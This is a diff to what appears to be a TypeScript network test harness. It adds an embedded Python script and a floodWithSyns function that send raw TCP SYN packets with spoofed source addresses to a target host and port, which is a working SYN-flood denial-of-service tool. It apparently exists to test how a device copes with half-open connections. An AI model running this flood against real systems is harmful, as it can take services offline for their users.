@@ -46,6 +46,25 @@ const asked = JSON.parse(questions).map(([how, name]) => resolver[how](name).cat
 Promise.all(asked).then((answers) => console.log(JSON.stringify(answers)));
 `;
 
+/** SYNs in the names of machines that are not there: nobody takes the answer, so each connection stays half-open. */
+const FLOOD = `
+import random, socket, struct, sys
+prefix, to, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+def checksum(data):
+    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
+    while total >> 16: total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+target = socket.inet_aton(to)
+for _ in range(count):
+    source = socket.inet_aton('%s.%d' % (prefix, random.randint(201, 239)))
+    tcp = struct.pack('>HHIIBBHHH', random.randint(1024, 65535), port, random.getrandbits(32), 0, 80, 2, 64240, 0, 0)
+    pseudo = source + target + struct.pack('>BBH', 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack('>H', checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack('>BBHHHBBH4s4s', 69, 0, 40, 0, 0, 64, 6, 0, source, target)
+    raw.sendto(ip + tcp, (to, 0))
+`;
+
 interface Listening {
   readonly name: string;
   /** The board's own address, or all ("0.0.0.0"). */
@@ -74,6 +93,23 @@ interface AskedUdp {
   readonly port: number;
   readonly text?: string;
   readonly waitMs?: number;
+}
+
+/** Sends SYNs as if from machines of the LAN `prefix` ("198.18.1") that are not there. Resolves when they are sent. */
+export async function floodWithSyns(
+  enter: Enter,
+  { prefix, ip, port, count }: Flood,
+): Promise<void> {
+  const program = ['python3', '-c', FLOOD, prefix, ip, String(port), String(count)];
+  const { code, stderr } = await runCommand('nsenter', [...enter, ...program]);
+  if (code !== 0) throw new Error(`no flood: ${stderr}`);
+}
+
+interface Flood {
+  readonly prefix: string;
+  readonly ip: string;
+  readonly port: number;
+  readonly count: number;
 }
 
 type Method = 'resolve4' | 'resolve6' | 'resolveCname' | 'resolvePtr' | 'resolveSrv' | 'resolveTxt';
